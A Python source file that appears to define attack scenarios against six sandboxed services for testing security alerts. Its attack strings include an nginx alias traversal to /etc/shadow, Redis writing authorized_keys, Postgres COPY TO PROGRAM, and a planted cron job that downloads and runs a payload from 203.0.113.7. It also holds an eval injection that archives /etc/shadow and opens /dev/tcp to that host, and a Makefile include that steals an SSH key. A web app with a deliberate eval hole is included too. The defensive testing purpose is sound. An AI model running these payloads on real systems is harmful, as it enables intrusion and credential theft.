# ruff: noqa: E501  scripts and configurations keep their lines
"""Six real services as data: their files, how they are started, what their clients do, and one attack on each.

Everything runs in a container of namespaces with the machine's own programs, read-only. "{target}" is the process id of
its first process: clients and attackers enter its network, not the container.
"""

from dataclasses import dataclass, field

ATTACKER = "203.0.113.7"


@dataclass(frozen=True)
class Service:
    name: str
    needs: tuple[str, ...]
    """Programs of this machine."""
    files: dict[str, str]
    """Path in the container -> text; what begins with #! can be run."""
    entry: str
    """The shell script of its first process."""
    clients: str = ""
    """What goes on all the time: a shell script that ends, in the container's network."""
    attack: str = ""
    """The same, once."""
    tells: tuple[str, ...] = ()
    """What must be named by alerts on the attack."""
    owners: dict[str, int] = field(default_factory=dict)
    """Folder -> uid."""


NGINX = Service(
    "nginx",
    ("nginx", "curl"),
    {
        "/etc/nginx/nginx.conf": """daemon off; user root; pid /run/nginx.pid; error_log /var/log/nginx/error.log;
events {}
http {
  access_log /var/log/nginx/access.log; client_body_temp_path /var/lib/nginx/body; proxy_temp_path /var/lib/nginx/proxy;
  fastcgi_temp_path /var/lib/nginx/f; uwsgi_temp_path /var/lib/nginx/u; scgi_temp_path /var/lib/nginx/s;
  server {
    listen 127.0.0.1:8080; root /srv/www; dav_methods PUT;
    location /manual { alias /etc/manual/; }
    location /uploads/ { client_body_buffer_size 1k; create_full_put_path on; }
  }
}
""",
        **{f"/srv/www/page{n}.html": f"<h1>{n}</h1>\n" * (n + 1) for n in range(8)},
        **{f"/etc/manual/part-{n}.txt": f"chapter {n}\n" for n in range(3)},
        "/var/log/nginx/.keep": "",
        "/var/lib/nginx/.keep": "",
        "/srv/www/uploads/.keep": "",
    },
    "exec nginx -c /etc/nginx/nginx.conf",
    "for n in 0 1 2 3 4 5 6 7; do curl -s -o /dev/null http://127.0.0.1:8080/page$n.html http://127.0.0.1:8080/gone$n; done\n"
    "curl -s -o /dev/null http://127.0.0.1:8080/manual/part-1.txt\n"
    "head -c 3000 /dev/urandom | curl -s -o /dev/null -T - http://127.0.0.1:8080/uploads/$(date +%s%N).bin\n",
    # the alias without its slash: /manual../x is /etc/manual/../x
    "curl -s -o /dev/null --path-as-is http://127.0.0.1:8080/manual../shadow\n",
    ("/etc/shadow",),
)

REDIS = Service(
    "redis",
    ("redis-server", "redis-cli"),
    {
        "/etc/redis.conf": "bind 127.0.0.1\nport 6379\ndir /data\nappendonly yes\nenable-protected-configs yes\nsave 5 10\n",
        "/data/.keep": "",
        "/root/.ssh/.keep": "",
    },
    "exec redis-server /etc/redis.conf",
    "redis-cli -p 6379 set key:$(date +%N) value\nredis-cli -p 6379 incr visits\nredis-cli -p 6379 get visits\n"
    "redis-cli -p 6379 lpush jobs a b c\nredis-cli -p 6379 brpop jobs 1\n",
    # the classic way from a database without a password to a login
    "redis-cli -p 6379 config set dir /root/.ssh\nredis-cli -p 6379 config set dbfilename authorized_keys\n"
    "redis-cli -p 6379 set x 'ssh-ed25519 AAAA attacker'\nredis-cli -p 6379 save\n",
    ("/root/.ssh",),
)

POSTGRES = Service(
    "postgres",
    ("postgres", "initdb", "psql", "setpriv"),
    {"/data/.keep": "", "/run/postgresql/.keep": "", "/start.sh": "#!/bin/sh\n"
     "[ -e /data/db ] || initdb -D /data/db -A trust -U app >/dev/null\n"
     "exec postgres -D /data/db -c listen_addresses=127.0.0.1 -c unix_socket_directories=/run/postgresql "
     "-c fsync=off -c autovacuum_naptime=10s\n"},
    "exec setpriv --reuid 999 --regid 999 --clear-groups /bin/sh /start.sh",
    "psql -q -h 127.0.0.1 -U app postgres -c 'create table if not exists orders(id serial, at timestamp default now())' "
    "-c 'insert into orders default values' -c 'select count(*) from orders' -c 'checkpoint' >/dev/null\n",
    # whose password gets a superuser in gets a shell
    "psql -q -h 127.0.0.1 -U app postgres -c \"copy (select 1) to program 'id; cat /etc/passwd > /tmp/.x'\"\n",
    ("/usr/bin/id", "/tmp/.x"),
    {"/data": 999, "/run/postgresql": 999},
)  # fmt: skip

CRON = Service(
    "cron",
    ("find", "gzip", "curl"),
    {
        "/etc/jobs/10-rotate.sh": "for f in /var/log/app/*.log; do gzip -cf $f > $f.gz; done\nfind /var/log/app -name '*.gz' -mmin +1 -delete\n",
        "/etc/jobs/20-report.sh": "wc -l /var/log/app/*.log | sort -n > /var/lib/reports/report-$(date +%s).txt\n",
        "/etc/jobs/30-tidy.sh": "ls -t /var/lib/reports | tail -n +5 | while read -r f; do rm /var/lib/reports/$f; done\n",
        "/var/log/app/a.log": "one\ntwo\n",
        "/var/log/app/b.log": "three\n",
        "/var/lib/reports/.keep": "",
        "/run.sh": "#!/bin/sh\nwhile true; do for job in /etc/jobs/*.sh; do sh $job; done; sleep 2; done\n",
    },
    "exec sh /run.sh",
    "",
    # whoever may write a job runs it; the file is put there from outside
    "printf 'curl -s http://203.0.113.7/k -o /var/tmp/.k; chmod +x /var/tmp/.k; /var/tmp/.k\\n' > {root}/etc/jobs/90-k.sh\nsleep 6\n",
    ("203.0.113.7", "/var/tmp/.k", "curl"),
)

PYTHON = Service(
    "python",
    ("python3", "curl"),
    {
        "/app/app.py": """import http.server, os, sqlite3, urllib.parse
base = sqlite3.connect("/data/shop.db", isolation_level=None)
base.execute("create table if not exists visits(path)")
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        base.execute("insert into visits values (?)", (self.path,))
        text = open("/app/page.html").read()
        if "total" in query:
            text += str(eval(query["total"][0]))  # the hole
        with open(f"/data/cache/{os.urandom(6).hex()}.html", "w") as out:
            out.write(text)
        for old in sorted(os.listdir("/data/cache"))[:-20]:
            os.remove(f"/data/cache/{old}")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(text.encode())
    def log_message(self, *words):
        pass
http.server.HTTPServer(("127.0.0.1", 8000), Page).serve_forever()
""",
        "/app/page.html": "<h1>shop</h1>\n",
        "/data/cache/.keep": "",
    },
    "exec /usr/bin/python3 /app/app.py",
    "for n in 1 2 3 4; do curl -s -o /dev/null 'http://127.0.0.1:8000/?total=2*'$n; done\n",
    "curl -s -o /dev/null -G http://127.0.0.1:8000/ --data-urlencode "
    "\"total=__import__('os').system('tar cf /tmp/.t /etc/shadow /app; exec 3<>/dev/tcp/203.0.113.7/443')\"\n",
    ("tar", "/etc/shadow"),
)

BUILD = Service(
    "build",
    ("gcc", "make", "git"),
    {
        "/src/Makefile": "all: app test\napp: main.c util.c\n\tgcc -O1 -o $@ $^\ntest: app\n\t./app > out.txt\n-include deps.mk\n",
        "/src/main.c": '#include <stdio.h>\nint twice(int);\nint main(void) { printf("%d\\n", twice(21)); return 0; }\n',
        "/src/util.c": "int twice(int x) { return 2 * x; }\n",
        "/root/.ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n",
        "/builds/.keep": "",
        "/run.sh": "#!/bin/sh\ncd /src && git init -q 2>/dev/null; git config --global user.email b@example; git config --global user.name b\n"
        "while true; do cd /src && git add -A && git commit -qm work --allow-empty; d=/builds/job-$(date +%s%N)\n"
        "git clone -q /src $d && cd $d && make -s; cd /; rm -rf $d; sleep 4; done\n",
    },
    "exec sh /run.sh",
    "",
    # a dependency that brings a step of its own
    "printf 'test: steal\\nsteal:\\n\\t@head -c 99 /root/.ssh/id_ed25519 > /tmp/.k; echo evil >> /root/.bashrc\\n' > {root}/src/deps.mk\nsleep 6\n",
    ("/root/.ssh/id_ed25519", "/root/.bashrc"),
)

SERVICES = (NGINX, REDIS, POSTGRES, CRON, PYTHON, BUILD)
